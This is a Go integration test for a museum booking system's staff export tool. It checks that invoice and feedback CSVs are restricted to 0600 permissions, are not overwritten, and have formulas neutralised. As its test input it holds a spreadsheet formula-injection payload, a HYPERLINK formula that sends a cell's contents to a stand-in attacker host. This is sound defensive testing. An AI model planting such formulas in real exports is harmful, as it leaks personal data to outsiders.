package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/feature/dynamodb/attributevalue"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"

	"rekisteri/infra/local"
	"rekisteri/internal/dynamo"
	"rekisteri/internal/helsinki"
	"rekisteri/internal/register"
)

// TestStaffCommands runs both commands through run(), the tool's entry
// point, against a local stack with data made through the public endpoints.
func TestStaffCommands(t *testing.T) {
	ctx := context.Background()
	prefix := "staff" + time.Now().Format("150405")
	stack, srv := localStack(t, prefix)
	postJSON := func(path string, body any) map[string]string {
		b, _ := json.Marshal(body)
		req, _ := http.NewRequest(http.MethodPost, srv.URL+path, bytes.NewReader(b))
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var out map[string]string
		_ = json.NewDecoder(resp.Body).Decode(&out)
		return out
	}

	// A formula from the public form must reach staff's spreadsheet as text.
	const evilName = `=HYPERLINK("https://evil.example/?"&J2,"x")`
	date := helsinki.Today(time.Now()).AddDate(0, 0, 10).Format("2006-01-02")
	month := date[:7]
	ref := postJSON("/bookings", map[string]any{
		"resource": "guide", "date": date, "start": "13:00", "end": "14:00", "participants": 12,
		"first_name": evilName, "last_name": "Puupää", "email": "pekka@example.com", "payment": "invoice",
		"street": "Koivutie 1", "postcode": "02200", "city": "Espoo", "hetu": "131052-308T",
	})["reference"]
	if err := stack.Drain(ctx); err != nil {
		t.Fatal(err)
	}
	mails, _ := stack.SentMail(ctx)
	var decision string
	for _, m := range mails {
		if m.Parsed.To == register.MustLoad("museum").BookingContact && strings.Contains(m.Parsed.Subject, ref) {
			for _, l := range m.Links() {
				if strings.Contains(l, "/bookings/decision") {
					decision = l
				}
			}
		}
	}
	u, _ := url.Parse(decision)
	if got := postJSON("/bookings/decision", map[string]string{"token": u.Query().Get("token"), "action": "accept"}); got["status"] != "accepted" {
		t.Fatalf("accept: %v", got)
	}

	// Two months on, by the local clock: the tool must see it too.
	if got := postJSON("/_local/clock", map[string]string{"advance": "2m"}); got["now"] == "" {
		t.Fatalf("advance the clock: %v", got)
	}
	moved := stack.Clock.Now()

	csvPath := filepath.Join(t.TempDir(), "invoices.csv")
	var out bytes.Buffer
	err := run(ctx, []string{"invoices", "-local", "-stack", prefix, "-from", month, "-to", month, "-csv", csvPath, "-actor", "laskuttaja"}, &out)
	if err != nil || !strings.Contains(out.String(), "1 bookings written") {
		t.Fatalf("invoices: %v %s", err, out.String())
	}
	f, _ := os.Open(csvPath)
	rows, _ := csv.NewReader(f).ReadAll()
	f.Close()
	if len(rows) != 2 || rows[1][0] != ref || rows[1][9] != "131052-308T" {
		t.Fatalf("invoice CSV: %v", rows)
	}
	if rows[1][6] != "'"+evilName+" Puupää" {
		t.Errorf("name cell %q, want the formula neutralised with a leading apostrophe", rows[1][6])
	}
	assertNoFormulas(t, rows)
	if info, _ := os.Stat(csvPath); info.Mode().Perm() != 0o600 {
		t.Errorf("the invoice CSV holds identity codes; mode %v, want 0600", info.Mode().Perm())
	}
	if err := run(ctx, []string{"invoices", "-local", "-stack", prefix, "-csv", csvPath, "-actor", "x"}, &out); err == nil {
		t.Fatal("the tool must refuse to overwrite an existing CSV")
	}
	item, err := stack.Clients().DynamoDB.GetItem(ctx, &dynamodb.GetItemInput{TableName: aws.String(stack.Resolve("BookingsTable")), Key: dynamo.Key("BOOKING#"+ref, "BOOKING")})
	if err != nil {
		t.Fatal(err)
	}
	var invoiced struct {
		InvoicedAt time.Time `dynamodbav:"invoicedAt"`
	}
	if err := attributevalue.UnmarshalMap(item.Item, &invoiced); err != nil || invoiced.InvoicedAt.Sub(moved).Abs() > time.Minute {
		t.Errorf("invoiced at %v (%v), want the local clock's %v", invoiced.InvoicedAt, err, moved)
	}

	for i := range 6 {
		postJSON("/feedback", map[string]any{"visit_date": helsinki.Today(stack.Clock.Now()).Format("2006-01-02"), "age_group": "18-29", "transport": []string{"walk", "walk", "walk", "walk", "walk", "car"}[i]})
	}
	stats := filepath.Join(t.TempDir(), "stats.csv")
	out.Reset()
	// No -from or -to: this month, by the local clock.
	if err := run(ctx, []string{"feedback-stats", "-local", "-stack", prefix, "-csv", stats}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "18-29") || !strings.Contains(out.String(), "<5") {
		t.Fatalf("stats table:\n%s", out.String())
	}
	sf, _ := os.Open(stats)
	statRows, err := csv.NewReader(sf).ReadAll()
	sf.Close()
	if err != nil {
		t.Fatal(err)
	}
	assertNoFormulas(t, statRows)
	if info, _ := os.Stat(stats); info.Mode().Perm() != 0o600 {
		t.Errorf("stats CSV mode %v, want 0600", info.Mode().Perm())
	}
	b, _ := os.ReadFile(stats)
	if !strings.Contains(string(b), "age_group,18-29,6") || !strings.Contains(string(b), "transport,car,<5") {
		t.Fatalf("stats CSV:\n%s", b)
	}
}

// assertNoFormulas fails if any cell would start a spreadsheet formula.
func assertNoFormulas(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d cell %d starts a formula: %q", i, j, c)
			}
		}
	}
}

// localStack is a local stack named prefix on the suite's emulators (its
// own when run alone), served over HTTP, with RUN_*_PORT set so -local
// finds its emulators and its clock as with `make run`.
func localStack(t *testing.T, prefix string) (*local.Stack, *httptest.Server) {
	t.Helper()
	ctx := context.Background()
	root, _ := filepath.Abs("../..")
	srv := httptest.NewUnstartedServer(nil)
	ddbURL, motoURL := os.Getenv("REKISTERI_TEST_DYNAMODB"), os.Getenv("REKISTERI_TEST_MOTO")
	if ddbURL == "" || motoURL == "" { // run alone, outside infra/testenv
		em, err := local.StartEmulators(ctx, local.EmulatorOptions{RepoRoot: root, LogDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = em.Stop() })
		ddbURL, motoURL = em.DynamoDBURL, em.MotoURL
	}
	// -local finds the emulators by port, as with `make run`.
	for env, u := range map[string]string{"RUN_DYNAMODB_PORT": ddbURL, "RUN_MOTO_PORT": motoURL} {
		pu, err := url.Parse(u)
		if err != nil || pu.Port() == "" {
			t.Fatalf("%s from testenv: %q", env, u)
		}
		t.Setenv(env, pu.Port())
	}
	stack, err := local.Start(ctx, local.Options{
		RepoRoot: root, Prefix: prefix, PublicBaseURL: "http://" + srv.Listener.Addr().String(),
		DynamoDBURL: ddbURL, MotoURL: motoURL, LogDir: t.TempDir(),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stack.Stop)
	srv.Config.Handler = stack.Handler()
	srv.Start()
	t.Cleanup(srv.Close)
	// -local reads the clock from the runner's port, here this stack's.
	t.Setenv("RUN_HTTP_PORT", strconv.Itoa(srv.Listener.Addr().(*net.TCPAddr).Port))
	return stack, srv
}
